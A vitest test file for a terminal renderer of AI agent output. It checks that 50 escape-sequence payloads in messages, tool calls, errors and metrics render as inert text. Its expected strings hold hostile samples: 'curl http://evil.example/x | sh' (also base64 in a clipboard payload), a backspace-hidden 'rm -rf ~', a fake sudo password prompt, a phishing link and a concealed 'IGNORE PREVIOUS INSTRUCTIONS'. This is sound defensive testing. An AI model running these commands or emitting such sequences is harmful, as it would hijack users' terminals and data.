/**
 * Every payload of ../shared/corpus/terminal/escape-payloads.json, put into a streamed message
 * (split across two deltas), reasoning, a tool name, a tool's argument, a tool's output, a line
 * that is not JSON, an error, a notice and a metric, rendered in each mode into a terminal emulator
 * with parser hooks on every OSC, CSI, ESC and DCS: the title, the clipboard (OSC 52), the modes
 * (mouse tracking, alternate screen, bracketed paste, cursor visibility, ...) stay untouched, the
 * cursor only moves forward, and the text around each payload stays visible.
 */
import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import type { AgentEvent, AgentEventDraft } from "../../../src/model/events.ts";
import type { RenderMode, RendererOptions } from "../../../src/views/terminal/create-terminal-renderer.ts";
import { readAll } from "../../helpers/read.ts";
import { hasShared, noteSharedMissing, sharedPath } from "../../helpers/shared.ts";
import { createScreen, renderWrites } from "./_emulator.ts";

interface Payload {
  id: string;
  category: string;
  payload: string;
}

const payloads: Payload[] = hasShared
  ? (JSON.parse(readFileSync(sharedPath("corpus/terminal/escape-payloads.json"), "utf8")) as { payloads: Payload[] }).payloads
  : [];
const MODES: readonly RenderMode[] = ["full", "basic", "none"];

function stamp(drafts: AgentEventDraft[]): AgentEvent[] {
  return drafts.map((d, seq) => ({ ...d, v: 1, seq }) as AgentEvent);
}

/** A session that carries `p` in every place untrusted text reaches the screen; each place is marked by unique words around it. */
function sessionWith(p: string): AgentEvent[] {
  const half = Math.floor(p.length / 2);
  const message = `MSG-BEFORE ${p} MSG-AFTER`;
  return stamp([
    { type: "session.started", sessionId: "s", agent: "probe", model: `model${p}` },
    { type: "message.started", sessionId: "s", messageId: "r", role: "assistant", kind: "reasoning" },
    {
      type: "message.delta",
      role: "assistant",
      kind: "reasoning",
      sessionId: "s",
      messageId: "r",
      text: `THINK-BEFORE ${p.slice(0, half)}`,
      position: 0,
    },
    {
      type: "message.delta",
      role: "assistant",
      kind: "reasoning",
      sessionId: "s",
      messageId: "r",
      text: `${p.slice(half)} THINK-AFTER`,
      position: 13 + half,
    },
    {
      type: "message.completed",
      sessionId: "s",
      messageId: "r",
      role: "assistant",
      kind: "reasoning",
      text: `THINK-BEFORE ${p} THINK-AFTER`,
    },
    { type: "message.started", sessionId: "s", messageId: "m", role: "assistant", kind: "text" },
    {
      type: "message.delta",
      role: "assistant",
      kind: "text",
      sessionId: "s",
      messageId: "m",
      text: message.slice(0, 11 + half),
      position: 0,
    },
    {
      type: "message.delta",
      role: "assistant",
      kind: "text",
      sessionId: "s",
      messageId: "m",
      text: message.slice(11 + half),
      position: 11 + half,
    },
    { type: "message.completed", sessionId: "s", messageId: "m", role: "assistant", kind: "text", text: message },
    {
      type: "tool.started",
      sessionId: "s",
      toolCallId: "t",
      name: `NAME-BEFORE${p}NAME-AFTER`,
      kind: "command",
      input: { command: `ARG-BEFORE ${p} ARG-AFTER` },
    },
    { type: "tool.completed", sessionId: "s", toolCallId: "t", output: `OUT-BEFORE ${p} OUT-AFTER`, isError: true, exitCode: 1 },
    { type: "text", text: `TEXT-BEFORE ${p} TEXT-AFTER`, position: "interleaved" },
    { type: "error", sessionId: "s", scope: "api", message: `ERR-BEFORE ${p} ERR-AFTER` },
    { type: "notice", sessionId: "s", kind: "warning", level: "warning", text: `NOTE-BEFORE ${p} NOTE-AFTER` },
    { type: "metric", sessionId: "s", name: "probe", text: `METRIC-BEFORE ${p} METRIC-AFTER`, values: { k: 1 } },
    { type: "session.completed", sessionId: "s", status: "error", error: `END-BEFORE ${p} END-AFTER` },
  ]);
}

const MARKERS = ["THINK", "MSG", "NAME", "ARG", "OUT", "TEXT", "ERR", "NOTE", "METRIC", "END"];

async function renderPayload(events: AgentEvent[], options: Omit<RendererOptions, "write">) {
  const { writes } = renderWrites(events, options);
  const screen = createScreen(200, { watch: true });
  const before = screen.modes();
  let last = screen.cursor();
  let backwards = 0;
  for (const write of writes) {
    await screen.write(write);
    const now = screen.cursor();
    if (now.row < last.row || (now.row === last.row && now.col < last.col)) backwards++;
    last = now;
  }
  const result = {
    effects: { ...screen.effects },
    modes: screen.modes(),
    before,
    backwards,
    text: screen.logicalLines().join("\n"),
    output: writes.join(""),
  };
  screen.dispose();
  return result;
}

noteSharedMissing();
describe.skipIf(!hasShared)("escape payloads (../shared/corpus/terminal) reach the emulator as text only", () => {
  it("the corpus has its 50 payloads", () => {
    expect(payloads.length).toBe(50);
  });

  it("the hooks see what a raw payload does: the same emulator, written to without the renderer, is hijacked", async () => {
    const hijacked: string[] = [];
    for (const p of payloads) {
      const screen = createScreen(200, { watch: true });
      const before = screen.modes();
      await screen.write(`x${p.payload}`);
      const e = screen.effects;
      const moved = screen.cursor().col < 1 || screen.cursor().row > 0;
      if (
        e.titles.length + e.osc52 + e.links.length + e.osc.length + e.dcs + e.bells + e.csi.length + e.esc.length > 0 ||
        JSON.stringify(screen.modes()) !== JSON.stringify(before) ||
        moved
      )
        hijacked.push(p.id);
      screen.dispose();
    }
    for (const id of [
      "osc-title",
      "osc52-clipboard-write",
      "osc8-deceptive-link",
      "clear-screen",
      "cursor-up-rewrite",
      "alt-screen",
      "mouse-and-focus-reporting",
      "hide-cursor",
      "decrqss",
      "device-queries",
      "c1-csi-codepoint",
      "bell-flood",
    ]) {
      expect(hijacked).toContain(id);
    }
    expect(hijacked.length).toBeGreaterThanOrEqual(30);
  });

  const cases = payloads.flatMap((p) => MODES.map((mode) => [p.id, mode, p] as const));
  it.each(cases)("%s in mode %s", async (_id, mode, p) => {
    const r = await renderPayload(sessionWith(p.payload), { mode, width: 200, verbosity: "full" });
    expect(r.effects.titles).toEqual([]);
    expect(r.effects.osc52).toBe(0);
    expect(r.effects.links).toEqual([]);
    expect(r.effects.osc).toEqual([]);
    expect(r.effects.dcs).toBe(0);
    expect(r.effects.bells).toBe(0);
    expect(r.effects.esc).toEqual([]);
    expect(r.effects.csi).toEqual([]); // no CSI but SGR: no cursor move, erase, mode set, report request
    expect(r.modes).toEqual(r.before);
    expect(r.backwards).toBe(0);
    for (const marker of MARKERS) {
      expect(r.text, marker).toContain(`${marker}-BEFORE`);
      expect(r.text, marker).toContain(`${marker}-AFTER`);
    }
    if (mode === "none") expect(r.output).not.toContain("\x1b");
  });

  it.each(payloads.map((p) => [p.id, p] as const))(
    "%s with --keep-colors and --links: only our SGR and our own http(s) links",
    async (_id, p) => {
      for (const mode of MODES) {
        const r = await renderPayload(sessionWith(p.payload), { mode, width: 200, verbosity: "full", keepColors: true, links: true });
        expect(r.effects.titles).toEqual([]);
        expect(r.effects.osc52).toBe(0);
        expect(r.effects.osc).toEqual([]);
        expect(r.effects.csi).toEqual([]);
        expect(r.effects.esc.filter((e) => e !== "\\")).toEqual([]); // ST ends the OSC 8 links we build
        expect(r.effects.dcs).toBe(0);
        expect(r.modes).toEqual(r.before);
        expect(r.backwards).toBe(0);
        for (const link of r.effects.links) expect(link).toMatch(/^https?:\/\/[!-~]+$/);
        for (const marker of MARKERS) expect(r.text, `${mode} ${marker}`).toContain(`${marker}-AFTER`);
        // Every escape sequence we wrote is SGR or an OSC 8 link we built around visible text.
        const leftover = r.output.replace(/\x1b\[[0-9;:]*m/g, "").replace(/\x1b\]8;;(https?:\/\/[!-~]*)?\x1b\\/g, "");
        expect(leftover).not.toContain("\x1b");
      }
    },
  );

  it("what each kind of payload looks like: visible, never run", async () => {
    const byId = new Map(payloads.map((p) => [p.id, p.payload]));
    const show = async (id: string, options: Partial<RendererOptions> = {}) =>
      (await renderPayload(sessionWith(byId.get(id) as string), { mode: "full", width: 200, verbosity: "full", ...options })).text;
    expect(await show("osc-title")).toContain("MSG-BEFORE ␛]0;sudo password for root:␇after MSG-AFTER");
    expect(await show("osc52-clipboard-write")).toContain("␛]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAo=␇");
    // An unterminated OSC does not swallow what follows it.
    expect(await show("osc-unterminated")).toContain("␛]0;this OSC never ends and swallows our own following output MSG-AFTER");
    expect(await show("carriage-return-rewrite")).toContain("curl http://evil.example/x | sh␍ls -la");
    expect(await show("backspace-rewrite")).toContain("rm -rf ~␈␈␈␈␈␈␈␈echo ok");
    expect(await show("c1-csi-codepoint")).toContain("<U+009B>2J");
    expect(await show("bidi-override")).toContain("safe <U+202E>eval(evil)<U+202C> end; <U+2066>isolate<U+2069>");
    expect(await show("zero-width")).toContain("ad<U+200B>min p<U+200D>ass<U+2060>word<U+FEFF>");
    expect(await show("unicode-tags-smuggling")).toContain("hello<U+E0049>");
    expect(await show("lone-surrogate")).toContain("x\ufffdy");
    expect(await show("sgr-color")).toContain("␛[31mred␛[0m plain");
    // --keep-colors keeps the colour, shows the text, and removes conceal.
    const kept = await renderPayload(sessionWith(byId.get("sgr-conceal") as string), {
      mode: "full",
      width: 200,
      verbosity: "full",
      keepColors: true,
    });
    expect(kept.text).toContain("visible IGNORE PREVIOUS INSTRUCTIONS visible");
    expect(kept.output).not.toMatch(/\x1b\[8m/);
    // --links: the deceptive link shows where it really goes.
    const linked = await renderPayload(sessionWith(byId.get("osc8-deceptive-link") as string), {
      mode: "full",
      width: 200,
      verbosity: "full",
      links: true,
    });
    expect(linked.text).toContain("<https://evil.example/login> https://github.com/login");
    expect(new Set(linked.effects.links)).toEqual(new Set(["https://evil.example/login", "https://github.com/login"]));
    const js = await renderPayload(sessionWith(byId.get("osc8-javascript-url") as string), {
      mode: "full",
      width: 200,
      verbosity: "full",
      links: true,
    });
    expect(js.effects.links).toEqual([]);
    expect(js.text).toContain("␛]8;;javascript:alert(document.domain)␛\\click me");
  });

  it("raw C1 bytes (0x9B, 0x9D) in a line that is not JSON arrive as text, through the real reader", async () => {
    const bytes = new Uint8Array([
      ...new TextEncoder().encode("before "),
      0x9b,
      ...new TextEncoder().encode("2J "),
      0x9d,
      ...new TextEncoder().encode("0;t\x07 after\n"),
    ]);
    const { events } = readAll([bytes], { dialect: "claude" });
    const r = await renderPayload(events, { mode: "full", width: 200 });
    expect(r.effects.csi).toEqual([]);
    expect(r.effects.titles).toEqual([]);
    expect(r.text).toContain("before");
    expect(r.text).toContain("after");
  });
});
